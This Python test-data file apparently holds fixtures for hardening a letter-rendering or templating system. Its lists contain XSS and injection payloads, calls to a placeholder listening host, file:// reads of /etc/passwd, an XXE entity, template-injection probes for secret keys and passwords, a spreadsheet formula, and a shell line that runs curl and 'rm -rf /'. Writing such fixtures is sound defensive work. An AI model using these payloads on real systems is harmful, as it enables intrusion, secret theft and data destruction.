"""What somebody might write into a letter who means harm. `{at}` is an address that listens, `{file}` a file that must
not be read. Each is told from the others by its number."""

SIXTY = [
    # Elements that fetch
    '<img src="{at}/img">', '<img src=x onerror="fetch(\'{at}\')">', '<img srcset="{at}/1 1x">', '<image href="{at}"/>',
    '<svg><image href="{at}/svg"/></svg>', '<svg><use href="{at}#x"/></svg>', '<svg><script>alert(1)</script></svg>',
    '<object data="{at}/object"></object>', '<embed src="{at}/embed">', '<iframe src="{at}/frame"></iframe>',
    '<iframe srcdoc="<img src={at}>"></iframe>', '<video poster="{at}"><source src="{at}"></video>', '<audio src="{at}">',
    '<input type="image" src="{at}">', '<body background="{at}">', '<table background="{at}"><td>x</td></table>',
    # Links and attachments
    '<link rel="stylesheet" href="{at}/a.css">', '<link rel="attachment" href="file://{file}">',
    '<a rel="attachment" href="file://{file}">x</a>', '<a href="javascript:alert(1)">x</a>', '<a href="{at}">x</a>',
    '<base href="{at}/">', '<meta http-equiv="refresh" content="0;url={at}">', '<meta name="author" content="x">',
    # Styles
    '<style>@import url("{at}/i.css");</style>', '<style>* {{ background: url({at}/bg) }}</style>',
    '<style>@font-face {{ font-family: x; src: url({at}/f.ttf) }} * {{ font-family: x }}</style>',
    '<p style="background: url({at}/style)">x</p>', '<p style="content: url(file://{file})">x</p>',
    '<style>@page {{ @top-left {{ content: url({at}) }} }}</style>', '<style>p::before {{ content: attr(x url) }}</style>',
    '</style></head><style>body {{ display: none }}</style>', '@import url({at});', 'url({at}/bare)',
    # Files and schemes
    '<img src="file:///etc/passwd">', '<object data="file://{file}"></object>', '<img src="ftp://127.0.0.1/x">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">', '<img src="//127.0.0.1/x">', '<img src="\\\\127.0.0.1\\share\\x">',
    # Scripts
    '<script>fetch("{at}")</script>', '<script src="{at}/x.js"></script>', '"><script>alert(1)</script>',
    "'-alert(1)-'", '<ScRiPt>alert(1)</sCrIpT>', '<scr<script>ipt>alert(1)</script>', '<p onclick="alert(1)">x</p>',
    # Entities, declarations, ends of things
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file://{file}">]>', '&lt;script&gt; &#60;script&#62; &amp;', ']]><![CDATA[<b>x</b>]]>',
    '<!-- <img src="{at}"> -->', '</article></body></html><h1>after the end</h1>', '<?xml version="1.0"?><?php phpinfo() ?>',
    # Template languages and formats
    '{{{{ letter.sender }}}} {{{{ 7|add:7 }}}}', '{{% debug %}}{{% load static %}}', '{{% include "letters/paper.html" %}}',
    '{{% if 1 %}}x{{% endif %}}{{# c #}}', '${{7*7}} #{{7*7}} <%= 7*7 %>', '%s %n %(letter)s %d {{0.__class__}}',
    '{{{{ request.user.password }}}}', '=HYPERLINK("{at}") @SUM(1) +1', '$(curl {at}) `id` ; rm -rf /',
    # Characters
    'left \u202eto right\u202c\u2066x\u2069', 'zero\u200bwidth\ufeff\u00ad', 'below \x01\x08\x0b\x1f\x7f\x85 space',
    'a\u0301\u0300' * 50, '\u05e9\u05dc\u05d5\u05dd \u0627\u0644\u0633\u0644\u0627\u0645', '\ufffe\uffff\U000e0041\U0010fffd',
    '(x) Tj ET endstream endobj', '%PDF-1.7 /JavaScript /OpenAction', '/../../../etc/passwd', 'W' * 1900,
]  # fmt: skip

# Wordings that an organisation's manager might agree, each behind the national one.
WORDINGS = [
    '<img src="{at}">', '<p onclick="x">x</p>', '<style>p {{}}</style>', '<script>alert(1)</script>', '<a href="{at}">x</a>',
    '<link rel="attachment" href="file://{file}">', '<svg/>', '<!-- x -->', '<?php ?>', '<P STYLE="x">x</P>',
    '{{% load static %}}', '{{% include "base.html" %}}', '{{% debug %}}', '{{% extends "base.html" %}}',
    '{{{{ outcome|safe }}}}', '{{% autoescape off %}}{{{{ outcome }}}}{{% endautoescape %}}', '{{{{ outcome.__class__ }}}}',
    '{{{{ settings.SECRET_KEY }}}}', '{{{{ "<b>x</b>" }}}}', '{{% now "Y" %}}', '{{{{ outcome|ljust:99999999 }}}}',
    '{{% for a in matters %}}{{% for b in matters %}}{{{{ b }}}}{{% endfor %}}{{% endfor %}}',
    '{{% for a in matters %}}{{% for b in a %}}{{{{ b }}}}{{% endfor %}}{{% endfor %}}', '<ul><li>' * 300,
    '<ul><li>' * 40 + 'x' + '</li></ul>' * 40, '{{% if outcome %}}', 'x' * 20_001, '</article><article>',
]  # fmt: skip
